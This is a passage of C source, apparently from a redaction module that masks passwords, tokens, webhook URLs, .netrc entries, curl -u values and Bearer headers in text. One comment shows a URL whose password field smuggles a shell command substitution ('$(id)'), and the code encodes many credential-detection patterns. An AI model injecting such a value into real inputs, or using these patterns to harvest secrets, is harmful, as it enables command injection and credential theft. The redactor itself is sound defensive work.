  if (bare - name > 2 || !(g_ascii_isalpha (*bare) || *bare == '_') || !_pd_redact_name_is_secret (bare))
    return end;
  /* "PASS: test-x" is a test log's line: a bare pass is a name only
   * before '=' (curl -d pass=x) or as an option (--pass=x). */
  if (bare == name && g_ascii_strcasecmp (bare, "pass") == 0 && t[end] != '=' && !json_member_name (r, start, end))
    return end;

  /* psql --password production_db: a flag (or, of mysql, a value only
   * after '='), the word after it no value. */
  if (bare > name && end < r->len && t[end] != '='
      && (_pd_redact_password_options_at (&r->line, t, start) & PW_LONG_NO_SPACED) != 0)
    return end;
  if (match_at (r, RE_ASSIGN, start, &vs, &ve))
    {
      /* A count is two digits at most: three bytes tell it, and a long
       * value is not copied for it. */
      g_autofree char *value = g_strndup (t + vs, MIN (ve - vs, 3));
      gsize whole = r->joined ? ve : value_goes_on (r, name, end, vs, ve);
      gsize ds = 0, de = 0;
      gsize after = r->joined ? 0 : expansion_default (r, vs, &ds, &de);

      if (after > 0)
        {
          g_autofree char *fallback = g_strndup (t + ds, de - ds);

          if (_pd_redact_value_is_secret (fallback, FALSE))
            mask_span (r, ds, de, FALSE);
          return after;
        }

      /* A value followed by ( or [ is code (get_key(), env["X"]), not a
       * secret, unless value_goes_on() took it.  Either way the scan goes
       * on after the value, never into it again: each byte is looked at a
       * bounded number of times. */
      if (whole == ve && (ve < r->len && (t[ve] == '(' || t[ve] == '[')))
        return ve;
      if ((whole > ve || !_pd_redact_value_is_pass_count (name, value)) && found_value_is_secret (r, vs, whole))
        redact_span (r, vs, whole);
      return whole;
    }
  return end;
}

/* A URL's "://" at @i: the scheme before it, then a webhook or a password
 * in the userinfo.  Returns where the scan goes on. */
static gsize
try_url (Redactor *r,
         gsize     i)
{
  const char *t = r->text;
  gsize start = i, vs, ve;
  gboolean at = FALSE;

  while (start > r->copied && is_scheme_char (t[start - 1]) && i - start <= 31)
    start--;
  if (start == i || i - start > 31 || (start > 0 && is_scheme_char (t[start - 1])) || !g_ascii_isalpha (t[start]))
    return i + 3;

  if ((starts_with_ci (t + i + 3, "hooks.slack.com/") || starts_with_ci (t + i + 3, "discord")
       || starts_with_ci (t + i + 3, "ptb.discord") || starts_with_ci (t + i + 3, "canary.discord"))
      && match_at (r, RE_HOOK, start, &vs, &ve))
    {
      redact_span (r, vs, ve);
      return ve;
    }
  /* Userinfo only when an '@' comes before the end of the authority (in
   * at most 256 bytes, so the scan stays linear). */
  for (gsize j = i + 3; j < r->len && j - i < 256 && !g_ascii_isspace (t[j]) && !strchr ("/?#\"'", t[j]); j++)
    if (t[j] == '@')
      {
        at = TRUE;
        break;
      }
  if (at && (match_at (r, RE_USERINFO, start, &vs, &ve) || match_at (r, RE_USERTOKEN, start, &vs, &ve)))
    {
      /* mysql://u:x$(id)@h: what the shell runs stays in sight. */
      if (credential_is_secret (r, vs, ve, FALSE))
        redact_span (r, vs, ve);
      return ve;
    }
  return i + 3;
}

/* "password" at @i ends a .netrc line's "machine HOST login USER" (or
 * "default login USER"): its next word is the password, with no '=' or
 * ':' that the name rule needs (tried as an attacker would).  The line
 * before it is looked at up to 256 bytes back. */
static gboolean
netrc_password_at (Redactor *r,
                   gsize     i)
{
  const char *t = r->text;
  gsize line = i;

  if (!starts_with_ci (t + i, "password") || !(t[i + 8] == ' ' || t[i + 8] == '\t'))
    return FALSE;
  while (line > r->copied && t[line - 1] != '\n' && i - line < 256)
    line--;
  {
    g_autofree char *before = g_strndup (t + line, i - line);

    return strstr (before, "login ") != NULL
           && (strstr (before, "machine ") != NULL || strstr (before, "default ") != NULL);
  }
}

/* curl's -u glued to its value (-uuser:PASSWORD), after grouped flags
 * (-fsSu user:PASSWORD, -sSuuser:PASSWORD), or its proxy's -U, at @i when
 * the command is curl: elsewhere -u1000:1000 and -U are no password's. */
static gboolean
curl_user_option_at (Redactor *r,
                     gsize     i)
{
  const char *p = r->text + i;
  gsize k = 1;

  while (k < 17 && p[k] != '\0' && strchr (CURL_FLAGS, p[k]) != NULL)
    k++;
  return (p[k] == 'u' || p[k] == 'U') && p[k + 1] != '\0' && (k > 1 || p[k] == 'U' || !g_ascii_isspace (p[k + 1]))
         && (_pd_redact_password_options_at (&r->line, r->text, i) & PW_GLUED_U) != 0;
}

/* A pass phrase argument that says where the pass phrase is, not what:
 * env:VAR, file:PATH, fd:N, stdin (quoted or not).  Its length, or 0. */
static gsize
passphrase_source_len (const char *p)
{
  static const char * const sources[] = { "env:", "file:", "fd:", "stdin", NULL };
  gsize n = 0;

  if (*p == '\\' && (p[1] == '"' || p[1] == '\''))
    n = 2;
  else if (*p == '"' || *p == '\'')
    n = 1;
  if (!starts_with_any (p + n, sources) || (strncmp (p + n, "stdin", 5) == 0 && is_word_char (p[n + 5])))
    return 0;
  while (p[n] != '\0' && !g_ascii_isspace (p[n]))
    n++;
  return n;
}

/* Everything that may start at @i.  Returns where the scan goes on (@i
 * when nothing did). */
static gsize
try_at (Redactor *r,
        gsize     i)
{
  const char *p = r->text + i;
  gboolean word_start = i == 0 || !is_word_char (p[-1]);
  guint form;
  gsize vs, ve, n;

  r->name_start = i;
  if (word_start && has_key_prefix (p) && match_at (r, RE_KEY, i, &vs, &ve))
    {
      mask_span (r, vs, ve, FALSE);
      return ve;
    }
  if (i < r->refused_end)
    return i;  /* inside a value left in sight: known token shapes only */
  if (word_start && (*p == 'a' || *p == 'A' || *p == 'p' || *p == 'P')
      && (starts_with_ci (p, "authorization") || starts_with_ci (p, "proxy-authorization"))
      && match_at (r, RE_AUTH, i, &vs, &ve))
    {
      /* Authorization: Bearer $TOKEN stays as written, single quoted
       * too (-H '…: Bearer $TOKEN' is a placeholder, no token). */
      if (credential_is_secret (r, vs, ve, FALSE))
        redact_span (r, vs, ve);
      return ve;
    }
  if ((*p == 'b' || *p == 'B') && (i == 0 || !(g_ascii_isalnum (p[-1]) || p[-1] == '_'))
      && starts_with_ci (p, "bearer") && match_at (r, RE_BEARER, i, &vs, &ve))
    {
      if (credential_is_secret (r, vs, ve, FALSE))
        redact_span (r, vs, ve);
      return ve;
    }
  if (*p == '-' && word_start && (p[1] == 'U' || strncmp (p, "--user", 6) == 0)
      && (_pd_redact_password_options_at (&r->line, r->text, i) & PW_SMB_U) != 0 && match_at (r, RE_SMB, i, &vs, &ve))
    {
      if (credential_is_secret (r, vs, ve, ve < r->len && r->text[ve] == '\''))
        redact_span (r, vs, ve);
      return ve;
    }
  if (*p == '-' && word_start && ((p[1] == 'u' && (p[2] == ' ' || p[2] == '\t' || p[2] == '='))
                                  || strncmp (p, "--user", 6) == 0 || strncmp (p, "--proxy-user", 12) == 0
                                  || curl_user_option_at (r, i))
      && match_at (r, RE_CURL, i, &vs, &ve))
    {
      /* -u 'user:$x' is the text $x: the shell puts nothing in. */
      if (credential_is_secret (r, vs, ve, ve < r->len && r->text[ve] == '\''))
        redact_span (r, vs, ve);
      return ve;
    }
  if (*p == '-' && word_start && (n = _pd_redact_passphrase_option_len (p)) > 0)
    {
      gsize source;

      if (match_at (r, RE_PASSARG, i, &vs, &ve))
        {
          if (found_value_is_secret (r, vs, ve))
            redact_span (r, vs, ve);
          return ve;
        }
      /* -pass env:VAR is no secret, nor a value for the name rule. */
      if ((source = passphrase_source_len (p + n)) > 0)
        return i + n + source;
    }
  if (*p == '-' && word_start && (form = _pd_redact_password_option_form (p)) != 0
      && (_pd_redact_password_options_at (&r->line, r->text, i) & form) != 0
      && match_at (r, form == PW_GLUED_P ? RE_GLUED : (form == PW_GLUED_W || form == PW_GLUED_CAP_P) ? RE_GLUED_WP : RE_SPACED,
                   i, &vs, &ve)
      && found_value_is_secret (r, vs, ve))
    {
      redact_span (r, vs, ve);
      return ve;
    }
  if (*p == ':' && p[1] == '/' && p[2] == '/')
    return try_url (r, i);
  if ((*p == 'p' || *p == 'P') && word_start && netrc_password_at (r, i)
      && match_at (r, RE_NETRC, i, &vs, &ve))
    {
      if (credential_is_secret (r, vs, ve, FALSE))
        redact_span (r, vs, ve);
      return ve;
    }
  if (g_ascii_isalpha (*p) && has_name_trigger (p))
    return try_assignment (r, i);
  return i;
}

/* Which bytes may start something: ANYWHERE, a word of a secret-like name
 * (inside names too: DB_PASSWORD, apiKey) or the ':' of "://";
 * AT_WORD_START, a token prefix, Authorization, Bearer, curl's -u. */
enum { ANYWHERE = 1, AT_WORD_START = 2 };

static const guint8 may_start[256] = {
  ['a'] = ANYWHERE, ['A'] = ANYWHERE | AT_WORD_START, ['c'] = ANYWHERE, ['C'] = ANYWHERE,
  ['k'] = ANYWHERE, ['K'] = ANYWHERE, ['p'] = ANYWHERE | AT_WORD_START, ['P'] = ANYWHERE | AT_WORD_START,
  ['s'] = ANYWHERE | AT_WORD_START, ['S'] = ANYWHERE | AT_WORD_START, ['t'] = ANYWHERE, ['T'] = ANYWHERE,
  [':'] = ANYWHERE,
  ['r'] = AT_WORD_START, ['g'] = AT_WORD_START, ['n'] = AT_WORD_START, ['x'] = AT_WORD_START,
  ['h'] = AT_WORD_START, ['d'] = AT_WORD_START, ['e'] = AT_WORD_START, ['b'] = AT_WORD_START,
  ['B'] = AT_WORD_START, ['-'] = AT_WORD_START,
};

char *
pd_redact (const char *text,
           guint      *n_redacted)
{
  return _pd_redact_counting (text, n_redacted, NULL);
}

char *
_pd_redact_counting (const char *text,
                     guint      *n_redacted,
                     gsize      *line_bytes)
{
  g_autofree char *without_keys = NULL;
  g_autofree char *masked = NULL;
  Redactor r = { 0 };
  guint pem_count = 0;
  guint known_count = 0;

  if (n_redacted)
    *n_redacted = 0;
  if (text == NULL)
    return NULL;

  /* The keys and URL secrets this process holds, whatever their shape:
   * a provider that echoes its key leaves no copy in the database. */
  masked = pd_secret_text_mask (text, &known_count);
  if (known_count > 0)
    text = masked;
  if (strstr (text, "-----BEGIN ") != NULL)
    without_keys = _pd_redact_pem (text, &pem_count);

  r.text = without_keys ? without_keys : text;
  r.len = strlen (r.text);
  r.refused_from = G_MAXSIZE;
  r.depths = _pd_redact_json_depths (r.text, r.len);
  _pd_redact_command_line_init (&r.line);
  r.line.depths = r.depths;
  for (gsize i = 0; i < r.len; )
    {
      guchar c = (guchar) r.text[i];
      gsize next;

      /* Most bytes can start nothing: one table lookup, and on. */
      if (!(may_start[c] & ANYWHERE)
          && !((may_start[c] & AT_WORD_START) && (i == 0 || !is_word_char (r.text[i - 1]))))
        {
          i++;
          continue;
        }
      next = try_at (&r, i);
      /* A value refused by redact_span() is scanned again, from its start
       * to its end, for known token shapes only: once, so linear.  The
       * command line read so far stays (read again from the text's start
       * after each refusal, mysql -p" repeated took quadratic time). */
      if (r.refused_from != G_MAXSIZE)
        {
          next = MIN (next, r.refused_from);
          r.refused_from = G_MAXSIZE;
        }
      i = next > i ? next : i + 1;
      /* Never into what is masked already (a value's word after a line
       * continuation, redact_span()). */
      i = MAX (i, r.copied);
    }

  if (n_redacted)
    *n_redacted = known_count + pem_count + r.count;
  if (line_bytes)
    *line_bytes = r.line.bytes_read;
  g_free (r.depths);
  g_free (r.states);
  if (r.out == NULL)
    return g_strdup (r.text);
  g_string_append_len (r.out, r.text + r.copied, r.len - r.copied);
  return g_string_free (r.out, FALSE);
}
